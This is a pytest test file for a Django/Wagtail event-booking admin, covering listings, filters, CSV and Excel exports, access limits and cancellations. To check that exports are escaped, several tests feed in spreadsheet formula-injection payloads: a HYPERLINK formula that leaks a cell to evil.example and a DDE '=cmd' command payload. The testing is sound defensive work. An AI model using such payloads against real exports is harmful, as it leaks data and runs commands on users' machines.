"""Bookings in the Wagtail admin: listing, filters, exports, cancelling for a family."""

import csv
import datetime as dt
import io
from types import SimpleNamespace

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from events.models import Booking, Session
from events.models.bookings import BookingStatus, WaitingStatus
from events.recurrence import LOCAL_TZ
from events.services.register import walk_in_add
from events.services.sessions import session_cancel
from events.services.waiting_list import waiting_join
from home.permissions import group_leader_role_ensure
from tests.events.booking_support import book, family, session_make, two_area_site, user_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def site():
    site = two_area_site()
    site.peebles_leader = user_in("fiona_leader", group_leader_role_ensure(site.peebles))
    return site


@pytest.fixture
def bookings(site):
    amina = book(session_make(site.mums, days=3), first_name="Amina", access_needs="Step-free entrance please")
    fiona = book(session_make(site.peebles, days=10), first_name="Fiona", email="", phone="07700 900123")
    return SimpleNamespace(amina=amina.bookings[0], fiona=fiona.bookings[0])


FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&B2,"Amina")'


def listed(response) -> str:
    soup = BeautifulSoup(response.content, "html.parser")
    table = soup.find("table", class_="listing")
    return table.get_text(" ", strip=True) if table else ""


def csv_rows(response) -> list[dict]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


class TestBookingsListing:
    def test_a_booking_on_a_cancelled_session_reads_session_cancelled_and_the_export_says_so(
        self, client, site, bookings
    ):
        session_cancel(session=bookings.amina.session, reason="The centre is closed")
        client.force_login(site.staff)

        page = listed(client.get(reverse("events_booking:index")))
        rows = {
            row["First name"]: row for row in csv_rows(client.get(reverse("events_booking:index"), {"export": "csv"}))
        }

        assert "Session cancelled" in page
        assert (rows["Amina"]["Status"], rows["Amina"]["Session status"]) == ("Session cancelled", "Cancelled")
        assert (rows["Fiona"]["Status"], rows["Fiona"]["Session status"]) == ("Confirmed", "Scheduled")

    def test_staff_see_every_booking(self, client, site, bookings):
        client.force_login(site.staff)

        page = listed(client.get(reverse("events_booking:index")))

        assert "Amina" in page and "Fiona" in page

    def test_filters_by_area_group_and_session_date(self, client, site, bookings):
        client.force_login(site.staff)
        index = reverse("events_booking:index")
        day = bookings.fiona.session.start.astimezone(LOCAL_TZ).date().isoformat()

        assert "Amina" not in listed(client.get(index, {"area": site.borders.pk}))
        assert "Fiona" not in listed(client.get(index, {"page": site.mums.pk}))
        by_date = listed(client.get(index, {"date_from": day, "date_to": day}))
        assert "Fiona" in by_date and "Amina" not in by_date

    def test_a_group_leader_sees_only_their_own_groups_bookings(self, client, site, bookings):
        client.force_login(site.peebles_leader)

        response = client.get(reverse("events_booking:index"))

        assert "Fiona" in listed(response)
        assert "Amina" not in response.content.decode()
        assert "Step-free" not in response.content.decode()

    def test_the_csv_export_has_what_the_group_needs_and_local_times(self, client, site, bookings):
        client.force_login(site.staff)

        rows = csv_rows(client.get(reverse("events_booking:index"), {"export": "csv", "page": site.mums.pk}))

        [row] = rows
        assert row["Group or workshop"] == "Mums' Space"
        assert row["First name"] == "Amina"
        assert row["Access needs"] == "Step-free entrance please"
        assert row["Session starts"] == f"{bookings.amina.session.start.astimezone(LOCAL_TZ):%Y-%m-%d %H:%M}"
        assert row["Status"] == "Confirmed"

    def test_the_excel_export_opens_in_a_spreadsheet(self, client, site, bookings):
        client.force_login(site.peebles_leader)

        response = client.get(reverse("events_booking:index"), {"export": "xlsx"})

        content = b"".join(response.streaming_content) if response.streaming else response.content
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        values = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert values[0][:3] == ["Group or workshop", "Session starts", "First name"]
        assert [row[2] for row in values[1:]] == ["Fiona"]
        assert values[1][1] == bookings.fiona.session.start.astimezone(LOCAL_TZ).replace(tzinfo=None)

    def test_what_a_family_types_cannot_run_as_a_formula_in_the_csv(self, client, site):
        book(
            session_make(site.mums, days=2),
            first_name=FORMULA_NAME,
            access_needs="+1+1",
            children_ages="-2+3",
            phone="+447700900123",
        )
        second_session = session_make(site.mums, days=3)
        book(second_session, first_name="@SUM(1+1)", access_needs="=cmd|' /C calc'!A0", children_ages="-3")
        client.force_login(site.staff)

        rows = csv_rows(client.get(reverse("events_booking:index"), {"export": "csv"}))

        first, second = sorted(rows, key=lambda row: row["Session starts"])
        assert first["First name"] == "'" + FORMULA_NAME
        assert (first["Access needs"], first["Children's ages"]) == ("'+1+1", "'-2+3")
        assert (second["First name"], second["Access needs"]) == ("'@SUM(1+1)", "'=cmd|' /C calc'!A0")
        # Numbers stay numbers, and a UK phone number is written as it is dialled.
        assert (first["Phone"], second["Children's ages"], first["Adults"]) == ("07700 900123", "-3", "1")

    def test_a_formula_in_the_excel_export_is_stored_as_text(self, client, site):
        book(session_make(site.mums, days=2), first_name=FORMULA_NAME, access_needs="+1+1")
        client.force_login(site.staff)

        response = client.get(reverse("events_booking:index"), {"export": "xlsx"})

        content = b"".join(response.streaming_content) if response.streaming else response.content
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        name, access_needs = sheet.cell(row=2, column=3), sheet.cell(row=2, column=10)
        assert (name.value, name.data_type) == (FORMULA_NAME, "s")
        assert (access_needs.value, access_needs.data_type) == ("+1+1", "s")

    def test_walk_ins_export_without_personal_details(self, client, site):
        session = session_make(site.mums, days=1)
        Session.objects.filter(pk=session.pk).update(start=timezone.now() - dt.timedelta(minutes=5))
        walk_in_add(session=Session.objects.get(pk=session.pk), adults=1, children=1)
        client.force_login(site.staff)

        [row] = csv_rows(client.get(reverse("events_booking:index"), {"export": "csv"}))

        assert (row["First name"], row["Email"], row["Walk-in"], row["Status"]) == ("", "", "True", "Came")

    def test_the_listing_costs_the_same_however_many_bookings_there_are(self, client, site, bookings):
        client.force_login(site.staff)
        url = reverse("events_booking:index")
        client.get(url)
        with CaptureQueriesContext(connection) as few:
            client.get(url)
        for number in range(8):
            book(session_make(site.mums, days=number + 1), first_name=f"Family {number}")
        with CaptureQueriesContext(connection) as many:
            client.get(url)

        assert len(many) == len(few)


class TestCancelForAFamily:
    def test_staff_cancel_a_booking_and_the_next_family_waiting_gets_it(
        self, client, site, django_capture_on_commit_callbacks
    ):
        session = session_make(site.mums, places=1)
        booking = book(session, first_name="Amina", email="amina@example.org").bookings[0]
        entry = waiting_join(session=session, **family(first_name="Sara", email="sara@example.org")).entry
        client.force_login(site.staff)
        mail.outbox.clear()

        url = reverse("events_booking:cancel", args=[booking.pk])
        assert "Amina" in client.get(url).content.decode()
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(url)

        assert response.status_code == 302
        assert Booking.objects.get(pk=booking.pk).status == BookingStatus.CANCELLED
        entry.refresh_from_db()
        assert entry.status == WaitingStatus.PROMOTED
        assert {m.to[0] for m in mail.outbox} == {"amina@example.org", "sara@example.org"}

    def test_a_leader_of_another_group_cannot_cancel(self, client, site, bookings):
        client.force_login(site.peebles_leader)

        response = client.post(reverse("events_booking:cancel", args=[bookings.amina.pk]))

        assert response.status_code == 404
        assert Booking.objects.get(pk=bookings.amina.pk).status == BookingStatus.CONFIRMED
